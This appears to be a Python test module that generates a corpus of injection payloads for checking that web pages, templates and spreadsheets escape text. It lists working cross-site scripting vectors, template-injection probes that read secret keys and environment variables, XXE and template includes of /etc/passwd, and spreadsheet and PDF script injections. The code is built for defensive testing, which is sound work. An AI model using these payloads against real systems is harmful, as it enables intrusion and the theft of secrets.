"""Our own texts that would act if a page, a template or a sheet took them for anything but text.

Each is a context to break out of, times a vector that acts, times a disguise; what acts calls one of `CODES`.
"""

import random
from collections.abc import Iterator
from functools import cache
from itertools import product, zip_longest

LIMIT = 150
COUNT = 300
MARK = "kanarek"
CODES = (f"{MARK}=1", "alert(1)", f"console.log('{MARK}')", f"top.{MARK}=1", "confirm(`x`)")

OUT_OF_TEXT = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "-->",
    "</style>",
    "</script>",
    "]]>",
    "</template>",
    "</b></td>",
)
OUT_OF_ATTRIBUTE = ('"', "'", '" x="', "x ", "`", "&quot;", "&#34;", '\\"')

ELEMENTS = (
    "<script>{c}</script>",
    "<script src=data:,{c}></script>",
    "<script type=module>{c}</script>",
    "<img src=x onerror={c}>",
    '<img src=x: onerror="{c}" alt=\'',
    "<image href=x onerror={c}>",
    "<body onload={c}>",
    "<input autofocus onfocus={c}>",
    "<details open ontoggle={c}>",
    "<video><source onerror={c}></video>",
    "<audio src=x onerror={c}></audio>",
    "<iframe src=javascript:parent.{c}></iframe>",
    '<iframe srcdoc="<script>parent.{c}</script>"></iframe>',
    "<object data=data:text/html,<script>{c}</script>></object>",
    "<embed src=javascript:{c}>",
    "<a href=javascript:{c} autofocus>x</a>",
    "<form action=javascript:{c}><button autofocus>x</button></form>",
    "<button formaction=javascript:{c}>x</button>",
    "<meta http-equiv=refresh content=0;url=javascript:{c}>",
    "<link rel=stylesheet href=x onerror={c}>",
    "<p style=animation:a onanimationstart={c}>x</p><style>@keyframes a{{}}</style>",
    "<template shadowrootmode=open><img src=x onerror={c}></template>",
    "<dialog open onfocusin={c}><button autofocus>",
    "<textarea autofocus onfocus={c}>",
)
FOREIGN = (
    "<svg onload={c}>",
    "<svg><script>{c}</script></svg>",
    "<svg><animate onbegin={c} attributeName=x dur=1s>",
    "<svg><set onbegin={c} attributeName=x>",
    "<svg><a href=javascript:{c}><text y=9>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror={c}></foreignObject></svg>",
    "<svg><use href=data:image/svg+xml,<svg/onload={c}>>",
    "<svg><style><img src=x onerror={c}></style></svg>",
    "<math><mtext><img src=x onerror={c}></mtext></math>",
    "<math><maction actiontype=statusline href=javascript:{c}>x",
    "<math><mi/><style><!--</style><img src=x onerror={c}>-->",
)
ATTRIBUTES = (
    " autofocus onfocus={c} ",
    " onmouseover={c} ",
    " onpointerenter={c} ",
    " onclick={c} accesskey=x ",
    " style=animation:a onanimationstart={c} ",
    " ontoggle={c} open ",
    " formaction=javascript:{c} type=submit ",
    " onfocusin={c} tabindex=0 autofocus ",
)
ADDRESSES = (
    "javascript:{c}",
    "JaVaScRiPt:{c}",
    "java\tscript:{c}",
    "javascript&colon;{c}",
    "&#106;avascript:{c}",
    "javascript://kcik.pl/%0a{c}",
    "javascript:/*{c}*/{c}",
    "data:text/html,<script>{c}</script>",
    "data:text/html;charset=utf-7,+ADw-script+AD4-{c}+ADw-/script+AD4-",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{c}'/>",
    "vbscript:{c}",
    "blob:https://localhost/{c}",
    "https://kcik.pl/?q=<script>{c}</script>",
    'tel:112" onclick="{c}',
)
STYLES = (
    "</style><style>*{{background:url(javascript:{c})}}",
    "x{{}}</style><script>{c}</script>",
    ";background:url(data:image/svg+xml,<svg/onload={c}>);",
    "expression({c})",
    "@import 'data:text/css,*{{color:red}}';/*{c}*/",
    "\\3c script\\3e {c}\\3c /script\\3e",
    "-moz-binding:url(data:text/xml,{c})",
    "}}*{{content:attr(value)}}/*{c}",
    "'); behavior:url(x.htc); ({c}",
    "<link rel=attachment href=data:,{c}>",
    "<link rel=stylesheet href=data:text/css,*{{display:none}}>{c}",
)
TEMPLATES = (
    "{{{{7*7}}}}{c}",
    "{{{{ config.SECRET_KEY }}}}",
    "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}",
    "{{{{ url_for.__globals__.os.environ }}}}",
    "{{{{ cycler.__init__.__globals__ }}}}",
    "{{{{ '<script>{c}</script>'|safe }}}}",
    "{{% print(7*7) %}}",
    "{{% raw %}}{{{{7*7}}}}{{% endraw %}}<script>{c}</script>",
    "{{% include '/etc/passwd' %}}",
    "{{% autoescape false %}}<img src=x onerror={c}>{{% endautoescape %}}",
    "{{# {c} #}}",
    "${{7*7}}{c}",
    "#{{7*7}}{c}",
    "<%= 7*7 %><script>{c}</script>",
    "%(who)s %(list)s %s %d {c}",
    "{{0.__class__.__init__.__globals__}}",
    "[[{c}]]",
    "\ue000answer.yes\ue001{c}",
    "\ue000note\ue001<script>{c}</script>",
    "\ue000open\ue001",
    "text:[1,2]{c}",
    '{{"text:": ["x", "<script>{c}</script>"]}}',
)
ENCODED = (
    "&lt;script&gt;{c}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{c}",
    "&#60;img src=x onerror={c}&#62;",
    "&#x3c;svg onload={c}&#x3e;",
    "&LT;script&GT;{c}",
    "%3Cscript%3E{c}%3C/script%3E",
    "%253Cscript%253E{c}",
    "\\u003cscript\\u003e{c}\\u003c/script\\u003e",
    "\\x3cimg src=x onerror={c}\\x3e",
    "+ADw-script+AD4-{c}+ADw-/script+AD4-",
    '"}};{c};//',
    "';{c};//",
    "\\';{c};//",
    "`-{c}-`",
    "*/{c}/*",
    "<!--<script>{c}</script>",
    "<![CDATA[<script>{c}</script>]]>",
    "<?xml-stylesheet href='javascript:{c}'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;{c}",
    '=HYPERLINK("javascript:{c}")',
    "\\input{{/etc/passwd}} $({c}) `{c}`",
    ") Tj ET endstream endobj /OpenAction << /S /JavaScript /JS ({c}) >>",
    "(\\) /AA << /O << /S /Launch /F (x) >> >> {c}",
)
UNICODE = (
    "<scr\u202eipt>{c}</scr\u2066ipt>",
    "\u2068<img src=x onerror={c}>\u2069",
    "<scr\u200bipt>{c}</scr\u200bipt>",
    "<img\u00a0src=x\u00a0onerror={c}>",
    "<img\u2028src=x\u2028onerror={c}>",
    "\uff1cscript\uff1e{c}\uff1c/script\uff1e",
    "<\u0338script>{c}<\u0338/script>",
    "<script\u0338>{c}</script\u0338>",
    "<\u017fcript>{c}</\u017fcript>",
    "<\u0131mg src=x onerror={c}>",
    "\ufeff<script>{c}</script>",
    "\U0001f9ff<svg onload={c}>\U0001f9ff",
    "\u02b9\u02ba onfocus={c} autofocus \u02ba",
    "\u201c onfocus={c} autofocus \u201d",
    "e\u0301\u0301\u0301<script>{c}</script>",
    "\ufdd0<img src=x onerror={c}>\ufdd0",
    "\u2039script\u203a{c}\u2039/script\u203a",
    "<img src=x \u043enerror={c}>",
    "\u3008svg onload={c}\u3009",
    "\U000e003cscript\U000e003e{c}",
)
POLYGLOTS = (
    "\"'>--></title></style></textarea></script><svg onload={c}>",
    "javascript:/*--></title></style></textarea></script>'\"<img src=x onerror={c}>",
    "'\"`><script>/*{{{{7*7}}}}*/{c}</script><!--",
    "--></noscript><template></template>\"'><details open ontoggle={c}>${{7*7}}",
    "</td></tr></table>]]>\"'><math><mtext><img src=x onerror={c}>",
    "{{{{'</script>'}}}}\"><input autofocus onfocus={c} x='",
    "*/;{c};/*\" onfocus={c} autofocus '><svg onload={c}>",
    '&quot;&gt;"><script>{c}</script>&lt;/script&gt;%3C/script%3E',
    "</option></select></form>'\"><form action=javascript:{c}><input autofocus onfocus={c}>",
    "\\\"'><iframe srcdoc='<img src=x onerror=parent.{c}>'>{{%print 7*7%}}",
)


def _mixed_case(text: str) -> str:
    """Letters of the markup in turn large and small; what is called keeps its case."""
    called = next((code for code in CODES if code in text), "")
    parts = text.split(called) if called else [text]
    return called.join("".join(c.upper() if i % 2 else c for i, c in enumerate(part)) for part in parts)


def _slashes(text: str) -> str:
    return text.replace(" ", "/", 1)


def _tabs(text: str) -> str:
    return text.replace(" ", "\t")


def _unclosed(text: str) -> str:
    return text.rstrip(">")


DISGUISES = (str, _mixed_case, _slashes, _tabs, _unclosed)


def _made(vectors: tuple[str, ...], contexts: tuple[str, ...] = ("",), ends: tuple[str, ...] = ("",)) -> Iterator[str]:
    """Every vector in every context and disguise; the combinations in an order that mixes them early."""
    found = list(product(contexts, vectors, DISGUISES, ends))
    random.Random(len(found)).shuffle(found)
    for number, (context, vector, disguise, end) in enumerate(found):
        yield disguise(context + vector.format(c=CODES[number % len(CODES)]) + end)


def _families() -> tuple[Iterator[str], ...]:
    return (
        _made(ELEMENTS, OUT_OF_TEXT),
        _made(FOREIGN, OUT_OF_TEXT),
        _made(ATTRIBUTES, OUT_OF_ATTRIBUTE, ("", "x='", 'x="')),
        _made(ADDRESSES, ("", '"', "'>")),
        _made(STYLES, ("", '"')),
        _made(TEMPLATES),
        _made(ENCODED),
        _made(UNICODE, ("", '">')),
        _made(POLYGLOTS),
    )


@cache
def payloads() -> tuple[str, ...]:
    """300 different payloads of all families in turn, none longer than 150 characters."""
    found: dict[str, None] = {}
    for turn in zip_longest(*_families(), fillvalue=""):
        found.update(dict.fromkeys(text.strip() for text in turn if 0 < len(text.strip()) <= LIMIT))
    return tuple(found)[:COUNT]


def sample(count: int, seed: int = 20261123) -> tuple[str, ...]:
    """Some of the payloads, the same ones each time."""
    return tuple(random.Random(seed).sample(payloads(), count))
